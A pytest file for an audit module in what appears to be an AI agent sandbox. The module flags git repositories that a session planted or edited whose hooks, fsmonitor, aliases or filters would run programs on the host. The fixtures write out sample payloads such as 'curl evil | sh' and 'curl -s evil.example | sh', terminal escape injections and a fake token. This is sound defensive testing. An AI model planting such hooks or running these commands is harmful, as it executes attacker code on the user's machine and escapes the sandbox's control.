"""After a session, repositories the agent made or changed in the workspace
whose own config or hooks run programs are reported (sandbox/gitaudit.py):
the user's git, or an editor scanning the workspace, would run them on the
host.  Unit tests on real folders, then one session with real bubblewrap."""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from stockade.sandbox import gitaudit
from stockade.sandbox.gitaudit import audit


def repo(where: Path, config: str = "", hooks: dict[str, str] | None = None) -> Path:
    git = where / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    (git / "config").write_text(config)
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    for name, text in (hooks or {}).items():
        (git / "hooks" / name).write_text(text)
    return git


def test_programs_in_a_new_repository_are_found_and_plain_ones_are_not(tmp_path: Path) -> None:
    since = time.time() - 1
    repo(tmp_path / "a" / "b", '[core]\n\tfsmonitor = "touch x"\n[alias]\n\tst = status\n'
                               '\tsh = "!sh -c id"\n[filter "lfs"]\n\tclean = evil %f\n')
    repo(tmp_path / "plain", "[core]\n\tbare = false\n[alias]\n\tst = status\n")
    repo(tmp_path / "hooked", hooks={"post-checkout": "#!/bin/sh\nid\n"})
    found = audit(str(tmp_path), since=since)
    assert found.complete
    got = {r.path: r.why for r in found.risky}
    assert got == {
        "a/b/.git": ("config: alias.*", "config: core.fsmonitor", "config: filter.*.clean"),
        "hooked/.git": ("hooks/post-checkout",),
    }


@pytest.mark.parametrize("git_installed", [True, False])
@pytest.mark.parametrize(("text", "keys"), [
    ('[core] fsmonitor = "touch x"\n', ["core.fsmonitor"]),  # a key on the header line
    ('\ufeff[core]\n\tfsmonitor = x\n', ["core.fsmonitor"]),  # a byte-order mark
    ('[filter\t"a.b"]\n\tclean = evil\n', ["filter.*.clean"]),  # tab, dots in the name
    ('[core]\n\tx = a \\\n[user]\n\tfsmonitor = evil\n', ["core.fsmonitor"]),  # continued
    ('[include]path=x\n', ["include.path"]),
    ('[alias]\n\tst = status\n\tsh = "!sh"\n', ["alias.*"]),
    ('[core]\n\tbare = false\n[alias]\n\tst = status\n', []),
])
def test_config_is_read_as_git_reads_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        git_installed: bool, text: str, keys: list[str]) -> None:
    if not git_installed:
        monkeypatch.setattr(gitaudit, "_git_pairs", lambda _config: None)
    (tmp_path / "config").write_text(text, encoding="utf-8")
    assert gitaudit.program_keys(str(tmp_path / "config")) == keys


def test_links_fifos_bare_repositories_and_edited_hooks(tmp_path: Path) -> None:
    old = repo(tmp_path / "edited", hooks={"post-merge": "#!/bin/sh\ntrue\n"})
    since = time.time() + 2
    time.sleep(0.01)
    os.utime(old, (since - 100, since - 100))  # mtimes can be set back; ctimes cannot
    # nothing new: not reported
    assert audit(str(tmp_path), since=since).risky == ()
    # an existing hook rewritten during the session is
    later = time.time() - 1
    (old / "hooks" / "post-merge").write_text("#!/bin/sh\ncurl evil | sh\n")
    (tmp_path / "linked").mkdir()
    os.symlink(tmp_path / "elsewhere", tmp_path / "linked" / ".git")
    fifo = repo(tmp_path / "fifo")
    (fifo / "config").unlink()
    os.mkfifo(fifo / "config")  # read as a file, it would block the launcher
    bare = tmp_path / "c"
    for d in ("objects", "refs"):
        (bare / d).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    (bare / "config").write_text('[core]\n\tbare = false\n\tfsmonitor = "x"\n')
    got = {r.path: r.why for r in audit(str(tmp_path), since=later).risky}
    assert got == {"edited/.git": ("hooks/post-merge",), "linked/.git": ("a symbolic link",),
                   "c": ("config: core.fsmonitor",),
                   "fifo/.git": ("config: <unreadable>",)}  # not read, not taken for harmless


def test_what_is_said_cannot_drive_the_terminal(tmp_path: Path) -> None:
    name = "q\r\x1b]52;c;ZXZpbA==\x07"
    repo(tmp_path / name, hooks={"x\x1b[2K": "#!/bin/sh\n"})
    found = audit(str(tmp_path), since=time.time() - 1)
    said = gitaudit.describe(found, str(tmp_path)) or ""
    assert "\x1b" not in said and "\r" not in said and "\x07" not in said
    assert "\\x1b" in said  # shown, escaped


def test_only_what_changed_during_the_session_counts(tmp_path: Path) -> None:
    repo(tmp_path / "old", '[core]\n\tfsmonitor = "x"\n')
    assert audit(str(tmp_path), since=time.time() + 5).risky == ()  # older than the session
    assert audit(str(tmp_path), since=time.time() - 5).risky != ()


def test_pointers_commondir_and_the_workspaces_own_git(tmp_path: Path) -> None:
    since = time.time() - 1
    repo(tmp_path, '[core]\n\tfsmonitor = "x"\n')  # the workspace's own: guarded elsewhere
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / ".git").write_text("gitdir: /somewhere/else\n")
    inner = repo(tmp_path / "in")
    (inner / "commondir").write_text("../../x\n")
    (tmp_path / "node_modules" / "p").mkdir(parents=True)
    repo(tmp_path / "node_modules" / "p", '[core]\n\tfsmonitor = "x"\n')  # skipped, as editors do
    got = {r.path: r.why for r in audit(str(tmp_path), since=since).risky}
    assert got == {"sub/.git": ("gitdir points outside the workspace",),
                   "in/.git": ("commondir",)}


def test_a_huge_workspace_is_said_to_be_partly_checked(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    for i in range(30):
        (tmp_path / f"d{i}").mkdir()
    monkeypatch.setattr(gitaudit, "MAX_ENTRIES", 10)
    found = audit(str(tmp_path), since=0)
    assert not found.complete
    assert "too large" in (gitaudit.describe(found, str(tmp_path)) or "")


@pytest.mark.e2e
def test_a_session_that_plants_a_repository_says_so(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    r = stockade("run", "--", "sh", "-c",
                 "git init -q clean-one; mkdir -p tools/x/.git/hooks; "
                 "echo 'ref: refs/heads/main' > tools/x/.git/HEAD; "
                 "printf '[core]\\n\\tfsmonitor = \"curl -s evil.example | sh\"\\n' "
                 "> tools/x/.git/config", cwd=ws)
    assert r.returncode == 0, r.stderr
    assert f"{ws}/tools/x/.git: config: core.fsmonitor" in r.stderr
    assert "clean-one" not in r.stderr  # a plain `git init` is fine
    assert "evil.example" not in r.stderr  # keys only, never values
    tail = stockade("ledger", "tail", "-n", "3", "--format", "json", cwd=ws)
    end = next(e for e in json.loads(tail.stdout) if e["kind"] == "session.end")
    assert end["details"]["git_repos_running_programs"] == [
        {"path": "tools/x/.git", "why": ["config: core.fsmonitor"]}]
    assert os.path.isdir(ws / "tools" / "x" / ".git")  # reported, not touched


def test_a_folder_made_unreadable_is_not_called_checked(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    repo(tmp_path / "hidden" / "r", '[core]\n\tfsmonitor = "x"\n')
    real = os.scandir

    def scandir(path: str) -> object:
        if str(path).endswith("hidden"):
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(gitaudit.os, "scandir", scandir)
    found = audit(str(tmp_path), since=time.time() - 1)
    assert found.risky == () and not found.complete


def test_hook_names_that_look_like_credentials_are_not_repeated(tmp_path: Path) -> None:
    from stockade.sandbox.launcher import _audit_git

    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    repo(tmp_path / "r", hooks={token: "#!/bin/sh\n"})
    got = _audit_git(str(tmp_path), since=time.time() - 1)
    assert got == [{"path": "r/.git", "why": ["hooks/<redacted>"]}]


def test_a_hook_that_is_a_symbolic_link_is_found(tmp_path: Path) -> None:
    """git runs a hook through a link: a link to a payload elsewhere counts."""
    since = time.time() - 1
    git = repo(tmp_path / "sub")
    (tmp_path / "payload.sh").write_text("#!/bin/sh\nid\n")
    (git / "hooks" / "post-index-change").symlink_to("../../../payload.sh")
    (git / "hooks" / "dangling").symlink_to("/nonexistent/hook")
    found = audit(str(tmp_path), since=since)
    assert {r.path: r.why for r in found.risky} == {
        "sub/.git": ("hooks/dangling", "hooks/post-index-change")}


def test_what_cannot_be_read_is_said_not_taken_for_harmless(tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A hooks folder git may search but nobody may list, a config that is not
    a regular file: reported as unreadable (root reads everything, so the
    listing failure is simulated)."""
    since = time.time() - 1
    git = repo(tmp_path / "sub")
    (git / "config").unlink()
    os.mkfifo(git / "config")
    real = os.scandir

    def scandir(path: str) -> object:
        if str(path).endswith(os.sep + "hooks"):
            raise PermissionError(13, "Permission denied")
        return real(path)

    monkeypatch.setattr(gitaudit.os, "scandir", scandir)
    found = audit(str(tmp_path), since=since)
    assert {r.path: r.why for r in found.risky} == {
        "sub/.git": ("config: <unreadable>", "hooks/<unreadable>")}


@pytest.mark.parametrize("text", [
    "[core]\n\thooksPath = .githooks # shared\n",
    '[core]\n\tx = "a # b" ; c\n',
    "[core]\n\tx = a  b   \n",
    '[core]\n\tx = "p\\"q" tail\n',
    "[core]\n\tx = a\\tb\\\\c\n",
    '[alias]\n\tsh = "  !sh -c id"\n',
    '[submodule "vendor/lib"] path = "vendor/lib" ; on the header line\n',
    # review: git continues no comment line, reads the old [section.sub] form,
    # a "]" inside a quoted subsection, and splits lines at \n only
    '[submodule "s"]\n; old \\\n\tpath = evil\n',
    '# x \\\n[submodule "s"]\n\tpath = evil\n',
    '[core]\n\tfoo = x # c \\\n\thooksPath = evil\n',
    "[submodule.s]\n\tpath = evil\n",
    '[submodule "a]b"] path = evil\n',
    "[submodule \"s\"]\n\tpath = sub\x0cdir\n",
    "[core]\n\tx = a \\\n  b\n\tbare\n",
    "[core]\r\n\thooksPath = crlf\r\n",
])
def test_the_lenient_reader_reads_values_as_git_does(text: str, tmp_path: Path) -> None:
    """Where git is not asked (the sandbox's start-up: core.hooksPath and
    .gitmodules paths), values are read as git reads them: comments, quotes,
    escapes, whitespace."""
    import shutil

    from stockade.sandbox.gitconfig import lenient_pairs

    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    config = tmp_path / "config"
    config.write_text(text)
    out = subprocess.run([git, "config", "--file", str(config), "--list", "--null"],
                         capture_output=True, check=True).stdout.decode()
    theirs = []
    for item in filter(None, out.split("\0")):
        key, _, value = item.partition("\n")
        parts = key.split(".")
        # a subsection shows as x here (it may hold dots in git's output)
        theirs.append((f"{parts[0]}.x.{parts[-1]}" if len(parts) > 2 else key, value))
    assert lenient_pairs(text) == theirs


def test_a_config_git_refuses_partway_is_still_read_whole(tmp_path: Path) -> None:
    """Review (fail open): git lists what it read before an error and exits
    non-zero; that partial list was taken as the whole config."""
    import shutil

    from stockade.sandbox.gitaudit import program_keys

    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    config = tmp_path / "config"
    config.write_text("[core]\n\tbare = false\n[oops\n[core]\n\tfsmonitor = ./watch.sh\n")
    assert "core.fsmonitor" in program_keys(str(config))
